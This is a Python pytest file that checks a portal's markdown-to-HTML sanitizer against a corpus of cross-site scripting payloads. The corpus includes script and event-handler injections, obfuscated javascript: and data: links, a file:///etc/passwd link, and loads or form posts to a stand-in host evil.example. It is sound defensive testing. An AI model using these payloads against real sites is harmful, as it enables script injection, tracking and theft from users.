"""What people write in threads and agreements becomes HTML: nothing in it may run, load or reach outside."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from portal.markdown import to_html

ALLOWED = {
    "p", "br", "hr", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "a", "h3", "h4", "h5", "h6",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ATTRIBUTES = {"href", "title", "rel", "start", "class", "style"}
CORPUS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<base href='http://evil.example/'>",
    "<form action=http://evil.example><input name=q>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "![x](http://evil.example/pixel.png)",
    "![x][p]\n\n[p]: http://evil.example/pixel.png",
    "[x][p]\n\n[p]: javascript:alert(1)",
    '[x](http://a.example "onmouseover=alert(1) x=\\"")',
    "[x](http://a.example/\"onmouseover=\"alert(1))",
    "`<script>alert(1)</script>`",
    "```<script>\nalert(1)\n```",
    '```x" onmouseover="alert(1)\ncode\n```',
    "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "**<b onclick=alert(1)>bold</b>**",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "x\u2028<script>alert(1)</script>",
    "{{ 7|add:1 }}{% debug %}",
]  # fmt: skip


class Reader(HTMLParser):
    """Notes each tag with its attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def faults(html: str) -> list[str]:
    """Name whatever in `html` could run, load or lead to more than a page."""
    reader = Reader()
    reader.feed(html)
    found = []
    for tag, attributes in reader.tags:
        found += [tag] if tag not in ALLOWED else []
        found += [f"{tag} {name}" for name in attributes if name not in ATTRIBUTES]
        style = attributes.get("style")
        found += [f"{tag} style={style}"] if style and not style.startswith("text-align:") else []
        address = (attributes.get("href") or "").strip().lower()
        if address and not address.startswith(("http://", "https://", "mailto:", "/", "#")):
            found.append(f"{tag} href={address}")
    return found


@pytest.mark.parametrize("text", CORPUS)
def test_nothing_that_was_written_runs_or_loads(text: str) -> None:
    assert faults(to_html(text)) == []


@pytest.mark.parametrize(
    "html",
    [
        "<script>1</script>",
        "<p onclick=x>",
        "<a href='javascript:1'>",
        "<img src=x>",
        "<p style='color:red'>",
    ],
)
def test_what_is_dangerous_would_be_seen(html: str) -> None:
    assert faults(html)


def test_markdown_itself_is_shown() -> None:
    html = to_html("## Point\n\n**Why** not `age`? See [the plan](https://plan.example).")
    for part in ("<h3>Point</h3>", "<strong>Why</strong>", "<code>age</code>", 'href="https://plan.example"'):
        assert part in html
